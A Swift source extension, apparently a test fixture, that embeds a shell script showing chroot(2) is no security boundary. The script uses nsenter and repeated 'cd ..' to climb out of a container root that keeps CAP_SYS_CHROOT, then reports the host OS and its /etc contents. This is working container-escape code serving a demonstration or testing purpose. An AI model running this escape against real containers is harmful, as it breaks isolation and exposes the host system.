extension TinyImage {
  /// Shows that chroot(2) is no wall. It climbs from a working directory that lies outside its root, as any root of a
  /// container could that keeps CAP_SYS_CHROOT, and tells where it has got to. Without pivot_root that is the host.
  static let escape = #"""
    #!/bin/sh
    # Leaves a root directory that is no more than a place to start from, as chroot(2) makes one: whoever has his working
    # directory outside his root climbs by ".." to where the mounts begin, and calls chroot there.
    inner=/tmp/.escape
    mkdir -p $inner && cp /bin/busybox $inner/busybox || exit 1
    exec nsenter -r$inner -w/ -- /busybox sh -c '
      n=0
      while [ $n -lt 64 ]; do cd -P ..; n=$((n + 1)); done
      exec /busybox chroot . /bin/sh -c "
        [ -e /bin/escape ] && echo \"still inside: / is where the mounts begin\" && exit 1
        . /etc/os-release
        echo \"outside: the host is \$PRETTY_NAME, and its /etc holds \$(ls /etc | wc -l) names\""'

    """#
}
